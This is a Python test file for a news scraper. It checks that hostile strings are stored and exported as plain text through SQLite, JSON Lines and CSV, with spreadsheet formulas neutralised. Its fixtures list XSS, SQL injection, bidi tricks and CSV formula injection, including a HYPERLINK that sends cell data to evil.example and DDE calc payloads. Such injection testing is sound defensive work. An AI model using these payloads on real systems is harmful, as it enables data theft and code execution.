"""Hostile text is stored and exported as text, exactly, through SQLite, JSON Lines and CSV."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import sqlite3
from dataclasses import asdict, replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from scrapy.exporters import JsonLinesItemExporter
from scrapy.utils.defer import deferred_f_from_coro_f

from defense_news.exporters import FORMULA_PREFIXES, SafeCsvItemExporter, restore_formula
from defense_news.items import Article, Comment
from defense_news.replica import serve
from defense_news.storage import SQLiteStore
from defense_news.storage.schema import ARTICLE_FIELDS, COMMENT_FIELDS, LIST_FIELDS
from tests.helpers import SITES, crawl

HOSTILE = [
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "&amp; &lt;b&gt; &#x27; &nbsp; &copy;",
    "Robert'); DROP TABLE comments;--",
    "' OR '1'='1",
    '"; DELETE FROM articles WHERE "a"="a',
    "null\x00byte",
    "bidi \u202eevil\u202c \u2066isolate\u2069 \u200fRLM",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already escaped",
    "''=twice",
    "line1\nline2\r\nline3",
    'comma, "quote", semicolon;',
    "😀 emoji, Россия, 中文, עברית",
    "\\x00 backslashes \\n \\",
    "\ufeffBOM and \u200bzero width",
    "a" * 100_000,
]
FIELDS_PER_STRING = 5  # title, body_text, authors, comment text, comment author
_hostile_text = st.text(max_size=200) | st.sampled_from(HOSTILE)


def _article(text: str, n: int = 1) -> Article:
    return Article(
        url=f"https://x.test/2024/01/a-{n}/",
        post_id=n,
        title=text,
        body_text=text,
        published_at="2024-01-01T00:00:00Z",
        authors=[text, "plain"],
        tags=[text],
    )


def _comment(text: str, n: int = 1) -> Comment:
    return Comment(comment_id=n, post_id=n, article_url=f"https://x.test/2024/01/a-{n}/", author=text, text=text)


def sqlite_round_trip(path, items: list[Article | Comment]) -> None:
    items = [replace(item, site="x.test") for item in items]
    store = SQLiteStore(path)
    try:
        store.upsert_articles([i for i in items if isinstance(i, Article)], "2024-01-01T00:00:00Z")
        store.upsert_comments([i for i in items if isinstance(i, Comment)], "2024-01-01T00:00:00Z")
        for item in items:
            table, fields, key = (
                ("articles", ARTICLE_FIELDS, "post_id")
                if isinstance(item, Article)
                else ("comments", COMMENT_FIELDS, "comment_id")
            )
            row = store.conn.execute(
                f"SELECT {', '.join(fields)} FROM {table} WHERE {key} = ?", (getattr(item, key),)
            ).fetchone()
            back = {f: (json.loads(v) if f in LIST_FIELDS else v) for f, v in zip(fields, row, strict=True)}
            assert back == {f: asdict(item)[f] for f in fields}
        assert store.conn.execute("pragma integrity_check").fetchone()[0] == "ok"
    finally:
        store.close()


def jsonl_round_trip(items: list[Article | Comment]) -> None:
    out = io.BytesIO()
    exporter = JsonLinesItemExporter(out, encoding="utf-8", ensure_ascii=False)
    exporter.start_exporting()
    for item in items:
        exporter.export_item(item)
    exporter.finish_exporting()
    lines = out.getvalue().decode("utf-8").split("\n")
    assert lines[-1] == ""
    assert [json.loads(line) for line in lines[:-1]] == [asdict(i) for i in items]


def csv_round_trip(items: list[Article | Comment]) -> None:
    for kind in (Article, Comment):
        subset = [i for i in items if isinstance(i, kind)]
        out = io.BytesIO()
        exporter = SafeCsvItemExporter(out, encoding="utf-8")
        exporter.start_exporting()
        for item in subset:
            exporter.export_item(item)
        exporter.finish_exporting()
        rows = list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8"), newline="")))
        assert len(rows) == len(subset)
        for item, row in zip(subset, rows, strict=True):
            for name, value in asdict(item).items():
                cell = row[name]
                assert not cell.startswith(FORMULA_PREFIXES), (name, cell[:40])
                if isinstance(value, str):
                    assert restore_formula(cell) == value
                elif isinstance(value, list):  # a JSON array, as in SQLite: a comma inside a name stays in it
                    assert json.loads(cell) == value, (name, cell[:40])


def test_known_hostile_strings_round_trip(tmp_path):
    items: list[Article | Comment] = []
    for n, text in enumerate(HOSTILE, start=1):
        items += [_article(text, n), _comment(text, n)]
    sqlite_round_trip(tmp_path / "rt.db", items)
    jsonl_round_trip(items)
    csv_round_trip(items)


# DEFENSE_NEWS_HOSTILE_EXAMPLES: fewer lists in `make test-fast` (docs/testing.md), 500 by default.
@settings(max_examples=int(os.environ.get("DEFENSE_NEWS_HOSTILE_EXAMPLES", "500")), deadline=None)
@given(texts=st.lists(_hostile_text, min_size=1, max_size=5))
def test_any_string_round_trips(texts):
    items: list[Article | Comment] = []
    for n, text in enumerate(texts, start=1):
        items += [_article(text, n), _comment(text, n)]
    sqlite_round_trip(":memory:", items)
    jsonl_round_trip(items)
    csv_round_trip(items)


# -- end to end: hostile markup in a comment, as a reader would see it -------------------------

COMMENT_HTML = (
    '<p onclick="evil()">=HYPERLINK("http://evil.example") \u202eevil\u202c &#x2066;x&#x2069;</p>'
    "<script>document.write('live script')</script>"
    "<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; Robert'); DROP TABLE comments;--</p>"
    "<style>p{}</style><iframe src='javascript:alert(1)'>frame text</iframe>"
)
COMMENT_TEXT = (
    '=HYPERLINK("http://evil.example") \u202eevil\u202c \u2066x\u2069\n\n'
    "<script>alert(1)</script> &amp; Robert'); DROP TABLE comments;--"
)
ORIGINAL = "<p>Good summary. Jamming changes week to week where I am.</p>"


@pytest.mark.e2e
@deferred_f_from_coro_f
async def test_hostile_comment_is_stored_and_exported_as_text(tmp_path):
    site = tmp_path / "site"
    shutil.copytree(SITES / "wp-tt3", site)
    page = site / "2024/10/drones-ukraine-lessons-army/index.html"
    html = page.read_text()
    assert ORIGINAL in html
    page.write_text(html.replace(ORIGINAL, COMMENT_HTML))
    db, out = tmp_path / "news.db", tmp_path / "out"
    with serve(site) as server:
        result = await crawl(
            {
                "DEFENSE_NEWS_SQLITE_PATH": str(db),
                "FEEDS": {
                    str(out / "comments.jsonl"): {"format": "jsonlines", "item_classes": [Comment]},
                    str(out / "comments.csv"): {"format": "csv", "item_classes": [Comment]},
                },
            },
            base_url=server.base_url,
            categories="military",
            max_pages="1",
        )
    [scraped] = [c for c in result.of(Comment) if c.comment_id == 31]
    assert scraped.text == COMMENT_TEXT
    with sqlite3.connect(db) as conn:
        assert conn.execute("select text from comments where comment_id = 31").fetchone()[0] == COMMENT_TEXT
    lines = [json.loads(line) for line in (out / "comments.jsonl").read_text(encoding="utf-8").splitlines()]
    assert next(c["text"] for c in lines if c["comment_id"] == 31) == COMMENT_TEXT
    with open(out / "comments.csv", encoding="utf-8", newline="") as f:
        row = next(r for r in csv.DictReader(f) if r["comment_id"] == "31")
    assert row["text"] == "'" + COMMENT_TEXT  # a formula, neutralised
    assert restore_formula(row["text"]) == COMMENT_TEXT
